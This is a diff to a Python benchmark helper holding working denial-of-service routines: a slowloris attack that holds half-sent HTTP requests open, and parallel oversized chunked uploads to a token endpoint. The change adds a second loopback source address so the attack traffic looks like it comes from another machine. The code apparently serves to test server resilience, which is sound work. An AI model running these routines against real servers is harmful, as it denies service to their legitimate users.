@@ -1,28 +1,49 @@
 """Attacks on a server, each bounded in time, to run in a process of their own
-(``_load.InProcess``) while a benchmark measures a normal client beside it."""
+(``_load.InProcess``) while a benchmark measures a normal client beside it;
+``source`` is the local address to attack from (another loopback address than
+the normal client's, as an attacker is another machine)."""
 
 from __future__ import annotations
 
 import asyncio
+import socket
 import time
+
+
+def other_loopback() -> str | None:
+    """127.0.0.2 where this machine can send from it (Linux), else None."""
+    with socket.socket() as sock:
+        try:
+            sock.bind(("127.0.0.2", 0))
+        except OSError:
+            return None
+    return "127.0.0.2"
+
 
 HALF_REQUEST = b"GET /api/tournaments/active HTTP/1.1\r\nHost: victim\r\n"
 
 
 async def slow_loris(
-    host: str, port: int, connections: int, seconds: float, dribble: float = 2.0
+    host: str,
+    port: int,
+    connections: int,
+    seconds: float,
+    dribble: float = 2.0,
+    source: str | None = None,
 ) -> dict[str, int]:
     """Hold ``connections`` connections that each send half a request, then one
     more header line every ``dribble`` seconds (so a timeout per read never
     fires); reopen any the server closes. Returns counts."""
     counts = {"opened": 0, "closed_by_server": 0, "refused": 0}
     deadline = time.monotonic() + seconds
+    local = (source, 0) if source else None
 
     async def hold() -> None:
         while time.monotonic() < deadline:
             try:
                 reader, writer = await asyncio.wait_for(
-                    asyncio.open_connection(host, port), max(0.1, deadline - time.monotonic())
+                    asyncio.open_connection(host, port, local_addr=local),
+                    max(0.1, deadline - time.monotonic()),
                 )
             except (OSError, asyncio.TimeoutError):
                 counts["refused"] += 1
@@ -51,9 +72,9 @@ async def slow_loris(
 
 
 async def oversized_bodies(
-    host: str, port: int, bodies: int, seconds: float, size: int = 2**30
+    host: str, port: int, bodies: int, seconds: float, source: str | None = None
 ) -> dict[str, int]:
-    """``bodies`` parallel chunked multipart uploads of ``size`` bytes each to
+    """``bodies`` parallel chunked multipart uploads of up to 1 GiB each to
     ``obtain_token`` (no Content-Length, no credentials), written as fast as the
     server reads them, until the server answers or closes, or time is up."""
     counts = {"sent_mib": 0, "answered": 0, "closed": 0}
@@ -63,7 +84,8 @@ async def oversized_bodies(
 
     async def send_one() -> None:
         try:
-            reader, writer = await asyncio.open_connection(host, port)
+            local = (source, 0) if source else None
+            reader, writer = await asyncio.open_connection(host, port, local_addr=local)
         except OSError:
             counts["closed"] += 1
             return
@@ -76,7 +98,7 @@ async def oversized_bodies(
         sent = 0
         answer: asyncio.Task[bytes] = asyncio.ensure_future(reader.read(1024))
         try:
-            while sent < size and time.monotonic() < deadline and not answer.done():
+            while sent < 2**30 and time.monotonic() < deadline and not answer.done():
                 writer.write(framed)
                 sent += len(chunk)
                 await asyncio.wait_for(writer.drain(), max(0.1, deadline - time.monotonic()))
